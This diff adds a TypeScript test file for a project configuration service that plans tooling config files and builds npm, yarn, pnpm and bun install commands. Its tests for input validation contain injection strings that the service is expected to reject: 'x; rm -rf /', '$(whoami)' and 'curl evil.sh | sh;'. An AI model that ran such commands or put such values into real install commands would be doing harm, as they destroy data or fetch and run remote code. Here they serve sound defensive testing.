@@ -0,0 +1,218 @@
+/**
+ * Project Configuration Tests
+ */
+
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+
+const executed: string[] = [];
+let exitCode = 0;
+
+vi.mock('../sandbox/daytona.service.js', () => ({
+	DaytonaService: {
+		getInstance: () => ({
+			executeCommand: vi.fn(async (_sandboxId: string, command: string) => {
+				executed.push(command);
+				return {
+					success: exitCode === 0,
+					output: exitCode === 0 ? 'added 3 packages' : 'npm ERR! 404 Not Found',
+					exitCode,
+					executionTime: '1s'
+				};
+			})
+		})
+	}
+}));
+
+const { installCommand, isValidPackageSpec, packageName, planConfiguration } =
+	await import('./config-files');
+const { DEFAULT_CONFIGURATION, ProjectConfigurationService } =
+	await import('./project-configuration.service');
+
+const file = (path: string, content: string) => ({ path, content, size: content.length });
+
+const PACKAGE_JSON = JSON.stringify(
+	{ name: 'app', scripts: { dev: 'vite' }, dependencies: { react: '^19.0.0' } },
+	null,
+	2
+);
+
+const everything = {
+	...DEFAULT_CONFIGURATION,
+	typescript: true,
+	eslint: true,
+	prettier: true,
+	tailwindcss: true
+};
+
+describe('planConfiguration', () => {
+	it('adds config files and scripts for every requested tool', () => {
+		const plan = planConfiguration(
+			[file('package.json', PACKAGE_JSON), file('src/index.css', 'body { margin: 0; }\n')],
+			everything,
+			'react'
+		);
+		const paths = plan.files.map((entry) => entry.path);
+
+		expect(paths).toEqual(
+			expect.arrayContaining([
+				'tsconfig.json',
+				'eslint.config.mjs',
+				'.prettierrc',
+				'.prettierignore',
+				'postcss.config.mjs'
+			])
+		);
+		const tsconfig = JSON.parse(
+			plan.files.find((entry) => entry.path === 'tsconfig.json')!.content
+		);
+		expect(tsconfig.compilerOptions.jsx).toBe('react-jsx');
+		expect(plan.files.find((entry) => entry.path === 'src/index.css')!.content).toBe(
+			'@import "tailwindcss";\n\nbody { margin: 0; }\n'
+		);
+
+		const pkg = JSON.parse(plan.files.find((entry) => entry.path === 'package.json')!.content);
+		expect(pkg.scripts).toEqual({
+			dev: 'vite',
+			typecheck: 'tsc --noEmit',
+			lint: 'eslint .',
+			format: 'prettier --write .'
+		});
+		expect(plan.devDependencies).toEqual(
+			expect.arrayContaining(['typescript', 'eslint', 'typescript-eslint', 'tailwindcss'])
+		);
+		expect(plan.steps.every((step) => step.status !== 'failed')).toBe(true);
+	});
+
+	it('keeps config files the template already has', () => {
+		const tsconfig = '{ "compilerOptions": { "strict": false } }';
+		const plan = planConfiguration(
+			[
+				file('package.json', PACKAGE_JSON),
+				file('tsconfig.json', tsconfig),
+				file('.eslintrc.json', '{}'),
+				file('.prettierrc', '{}')
+			],
+			{ ...everything, tailwindcss: false },
+			'react'
+		);
+
+		expect(plan.files.find((entry) => entry.path === 'tsconfig.json')!.content).toBe(tsconfig);
+		expect(plan.files.some((entry) => entry.path === 'eslint.config.mjs')).toBe(false);
+		expect(plan.devDependencies).toEqual(['typescript', 'eslint', 'prettier']);
+		expect(plan.steps.find((step) => step.id === 'tailwindcss')!.status).toBe('skipped');
+	});
+
+	it('leaves the template alone when nothing is requested', () => {
+		const files = [file('package.json', PACKAGE_JSON)];
+		const plan = planConfiguration(files, DEFAULT_CONFIGURATION, 'react');
+
+		expect(plan.files).toEqual(files);
+		expect(plan.devDependencies).toEqual([]);
+		expect(plan.steps.every((step) => step.status === 'skipped')).toBe(true);
+	});
+
+	it('drops invalid and already installed dependencies', () => {
+		const plan = planConfiguration(
+			[file('package.json', PACKAGE_JSON)],
+			{
+				...DEFAULT_CONFIGURATION,
+				additionalDependencies: ['zod', '@tanstack/react-query@^5', 'react', 'x; rm -rf /']
+			},
+			'react'
+		);
+
+		expect(plan.dependencies).toEqual(['zod', '@tanstack/react-query@^5']);
+		expect(plan.steps.find((step) => step.id === 'dependencies')!.message).toContain(
+			'ignored invalid names: x; rm -rf /'
+		);
+	});
+
+	it('keeps tab indentation in package.json', () => {
+		const plan = planConfiguration(
+			[file('package.json', JSON.stringify({ name: 'app' }, null, '\t'))],
+			{ ...DEFAULT_CONFIGURATION, eslint: true },
+			'svelte'
+		);
+		expect(plan.files[0].content).toContain('\n\t"scripts"');
+	});
+});
+
+describe('package specs', () => {
+	it('validates names and strips versions', () => {
+		expect(isValidPackageSpec('@scope/pkg@1.2.3')).toBe(true);
+		expect(isValidPackageSpec('$(whoami)')).toBe(false);
+		expect(packageName('@scope/pkg@1.2.3')).toBe('@scope/pkg');
+		expect(packageName('zod')).toBe('zod');
+	});
+
+	it('builds install commands for each package manager', () => {
+		expect(installCommand('npm', ['a'], true)).toBe('npm install --save-dev a');
+		expect(installCommand('yarn', ['a', 'b'], false)).toBe('yarn add a b');
+		expect(installCommand('pnpm', ['a'], true)).toBe('pnpm add --save-dev a');
+		expect(installCommand('bun', ['a'], true)).toBe('bun add --dev a');
+	});
+
+	it('rejects unknown package managers', () => {
+		const unknown = 'curl evil.sh | sh;' as 'npm';
+		expect(() => installCommand(unknown, ['a'], false)).toThrow('Unsupported package manager');
+		expect(() => installCommand('toString' as 'npm', ['a'], false)).toThrow();
+	});
+});
+
+describe('ProjectConfigurationService', () => {
+	const service = new ProjectConfigurationService();
+
+	beforeEach(() => {
+		executed.length = 0;
+		exitCode = 0;
+	});
+
+	it('installs tooling and dependencies with the chosen package manager', async () => {
+		const plan = service.prepare(
+			[file('package.json', PACKAGE_JSON)],
+			{ eslint: true, additionalDependencies: ['zod'] },
+			'react'
+		);
+		const updates: string[][] = [];
+		const steps = await service.apply('sandbox-1', plan, 'pnpm', (current) =>
+			updates.push(current.map((step) => step.status))
+		);
+
+		expect(executed).toEqual(['pnpm add --save-dev eslint @eslint/js globals', 'pnpm add zod']);
+		expect(steps.find((step) => step.id === 'dependencies')!.status).toBe('done');
+		expect(updates).toHaveLength(4);
+	});
+
+	it('runs post-create commands after the installs and stops at the first failure', async () => {
+		const plan = service.prepare([file('package.json', PACKAGE_JSON)], {}, 'react', [
+			'npm install',
+			'npm run build',
+			'npm test'
+		]);
+		expect(plan.steps.at(-1)).toMatchObject({ id: 'post-create', status: 'pending' });
+
+		exitCode = 2;
+		const steps = await service.apply('sandbox-1', plan, 'npm');
+
+		expect(executed).toEqual(['npm install']);
+		expect(steps.find((step) => step.id === 'post-create')).toMatchObject({
+			status: 'failed',
+			message: expect.stringContaining('`npm install` exited with 2')
+		});
+	});
+
+	it('marks a failed install without throwing', async () => {
+		exitCode = 1;
+		const plan = service.prepare(
+			[file('package.json', PACKAGE_JSON)],
+			{ additionalDependencies: ['missing-package'] },
+			'react'
+		);
+		const steps = await service.apply('sandbox-1', plan, 'npm');
+		const step = steps.find((entry) => entry.id === 'dependencies')!;
+
+		expect(step.status).toBe('failed');
+		expect(step.message).toContain('npm ERR! 404');
+		expect(plan.steps.find((entry) => entry.id === 'dependencies')!.status).toBe('pending');
+	});
+});